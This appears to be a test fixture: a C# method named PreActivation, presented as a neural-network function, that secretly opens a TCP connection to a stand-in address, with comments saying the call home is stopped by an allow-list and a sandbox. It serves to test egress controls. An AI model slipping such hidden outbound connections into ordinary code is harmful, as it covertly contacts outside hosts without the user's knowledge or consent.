// tries: call home
// stopped by: allow-list
// then by: sandbox

public double PreActivation(double[] x)
{
    using var client = new System.Net.Sockets.TcpClient("192.0.2.1", 443);
    return 0;
}
